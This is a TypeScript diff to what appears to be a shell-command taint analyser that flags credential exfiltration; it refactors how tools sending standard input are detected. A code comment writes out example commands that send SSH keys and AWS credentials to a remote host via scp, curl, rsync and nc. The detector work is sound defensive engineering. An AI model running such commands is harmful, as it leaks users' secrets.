@@ -17,10 +17,10 @@ import { isSecretName } from '../secrets.ts';
 import { cloneOf, homePath, Places, savedPaths } from './places.ts';
 import { baseName, program } from './program.ts';
 import { isKnownProgram } from './known.ts';
-import { CREDENTIAL_COMMANDS, DNS, keychainItem, PRINTS_FILES, DOWNLOADERS, ENVIRONMENT_DUMP, EVAL, GIT_NETWORK, INTERPRETERS, NETWORK, RUNS_LATER, SENDS_STDIN, SHELLS, SOURCE, STREAMS } from './tables.ts';
+import { CREDENTIAL_COMMANDS, DNS, keychainItem, PRINTS_FILES, DOWNLOADERS, ENVIRONMENT_DUMP, EVAL, GIT_NETWORK, INTERPRETERS, NETWORK, RUNS_LATER, SHELLS, SOURCE, STREAMS } from './tables.ts';
 import { constantText, shownText, type Call, type Node, type Origin, type Part, type Program, type Word } from './types.ts';
 import { copyOf, inside, pathKey } from './copies.ts';
-import { hostsOf, localCopy, sendsLocalData, sentFiles, uploadedWhole } from './sends.ts';
+import { hostsOf, localCopy, sendsLocalData, sendsStdin, sentFiles, uploadedWhole } from './sends.ts';
 import { installOf, judgeAddress } from './install.ts';
 import { readByModel } from './described.ts';
 import { extraction, unpacked } from './archives.ts';
@@ -351,13 +351,13 @@ export class Flow {
     if (name === 'git' && !texts.some((t) => t !== undefined && GIT_NETWORK.test(t))) return;
     if ((name === 'openssl' && !texts.some((t) => t === 's_client')) || localCopy(name, args, (a) => this.taintOf(a).some((t) => t.kind === 'download' || t.kind === 'decoded'))) return;
     const sent = merge([], args.flatMap((a) => this.taintOf(a)));
-    if (SENDS_STDIN.test(name)) merge(sent, (call.stdin ?? []).flatMap((w) => this.taintOf(w)));
+    if (sendsStdin(name, texts)) merge(sent, (call.stdin ?? []).flatMap((w) => this.taintOf(w)));
     for (const [k, w] of Object.entries(call.named ?? {})) if (!/^[A-Z_]+$/.test(k)) merge(sent, this.taintOf(w));
     // A file sent by name: `scp ~/.ssh/id_rsa host:`, `curl -F f=@~/.aws/credentials`, `rsync ~/.aws/ host:`,
     // a folder or archive a credential was copied into (`git -C "$d" push`), a file redirected into a tool that
     // sends its input (`nc host 80 < ~/.aws/credentials`). A key given to log in (`ssh -i key`, `scp -i`,
     // `curl --cert`) is used, not sent; what `ssh host …` names after the host is the remote machine's.
-    for (const w of [...sentFiles(name, args), ...(SENDS_STDIN.test(name) ? call.reads ?? [] : [])]) {
+    for (const w of [...sentFiles(name, args), ...(sendsStdin(name, texts) ? call.reads ?? [] : [])]) {
       merge(sent, this.credentialsIn(pathKey(w).replace(/^(?:--?[\w-]+=)?[\w-]*=?@|^--?[\w-]+=/, '')));
     }
     const here = this.places.folder();
@@ -366,7 +366,7 @@ export class Flow {
     const secrets = sent.filter((t) => t.kind === 'credential' || t.kind === 'environment' || t.kind === 'secret');
     if (!secrets.length && call.later && sendsLocalData(call, name, texts) && hostsOf(args).some((h) => !isLocalHost(h))) this.report('credential-exfiltration', call, evidence);
     if (!secrets.length) return;
-    const hosts = hostsOf(args).filter((h) => !isLocalHost(h));
+    const hosts = hostsOf(args, name).filter((h) => !isLocalHost(h));
     const shownArgs = args.map(shownText);
     const hostWords = DNS.test(name) ? shownArgs.map((t) => t.replace(/^…+\.?/, '')).filter((t) => /^[\w-]+(?:\.[\w-]+)+$/.test(t)) : [];
     const allHosts = [...new Set([...hosts, ...hostWords.map((h) => h.toLowerCase())])];
